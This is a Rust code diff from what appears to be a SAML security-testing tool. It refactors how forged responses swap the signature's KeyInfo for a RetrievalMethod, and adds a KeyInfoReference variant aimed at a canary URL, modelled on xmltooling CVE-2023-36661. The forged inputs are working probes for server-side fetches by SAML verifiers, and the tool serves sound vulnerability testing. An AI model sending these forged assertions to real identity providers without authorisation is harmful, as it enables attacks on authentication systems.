@@ -11,7 +11,7 @@ use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
 use base64::Engine;
 use openssl::hash::MessageDigest;
-use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, PROTOCOL_NS};
+use saml_protocol::{ASSERTION_NS, DSIG11_NS, DSIG_NS, ENVELOPED, PROTOCOL_NS};
 
 const PLACEHOLDER: &str = "FORGED_DIGEST_PLACEHOLDER";
 
@@ -388,26 +388,39 @@ pub fn remote_reference(f: &Forge) -> Result<Forged, Skip> {
     ])))
 }
 
-/// The Assertion's KeyInfo replaced by a RetrievalMethod on the canary (xmltooling
-/// CVE-2023-36661 fetched KeyInfoReference URLs): a verifier that resolves KeyInfo fetches it.
-/// KeyInfo is outside SignedInfo, so the signature itself still verifies.
-pub fn retrieval_method(f: &Forge) -> Result<Forged, Skip> {
+/// The Assertion's KeyInfo replaced by `content(ds prefix, canary prefix)`. KeyInfo is
+/// outside SignedInfo, so the signature itself still verifies.
+fn key_info_replaced(f: &Forge, content: &dyn Fn(&str, &str) -> String) -> Result<Forged, Skip> {
     let canary = &f.canary()?.prefix;
     let doc = Doc::parse(f.seed)?;
     let p = Parts::of(&doc)?;
     let sig = p.need_assertion_sig()?;
     let tag = qualified_name(doc.src, sig);
     let ds = tag.strip_suffix("Signature").unwrap_or_default();
-    let retrieval = format!(
-        "<{ds}KeyInfo><{ds}RetrievalMethod URI=\"{canary}/key\" Type=\"{DSIG_NS}X509Data\"/></{ds}KeyInfo>"
-    );
+    let key_info = format!("<{ds}KeyInfo>{}</{ds}KeyInfo>", content(ds, canary));
     let edit = match child(sig, DSIG_NS, "KeyInfo") {
-        Some(key_info) => (key_info.range(), retrieval),
-        None => insert(before_end_tag(doc.src, sig), retrieval),
+        Some(old) => (old.range(), key_info),
+        None => insert(before_end_tag(doc.src, sig), key_info),
     };
     Ok(Forged::same_identity(
         p.splice_unsigned_response(vec![edit]),
     ))
+}
+
+/// KeyInfo holding a RetrievalMethod on the canary: a verifier that resolves KeyInfo fetches
+/// it.
+pub fn retrieval_method(f: &Forge) -> Result<Forged, Skip> {
+    key_info_replaced(f, &|ds, canary| {
+        format!("<{ds}RetrievalMethod URI=\"{canary}/key\" Type=\"{DSIG_NS}X509Data\"/>")
+    })
+}
+
+/// KeyInfo holding an XML Signature 1.1 KeyInfoReference on the canary, the shape of
+/// xmltooling CVE-2023-36661 (Shibboleth SP fetched it while resolving the key).
+pub fn key_info_reference(f: &Forge) -> Result<Forged, Skip> {
+    key_info_replaced(f, &|_, canary| {
+        format!("<dsig11:KeyInfoReference xmlns:dsig11=\"{DSIG11_NS}\" URI=\"{canary}/key-info-reference\"/>")
+    })
 }
 
 /// The XSLT transform.
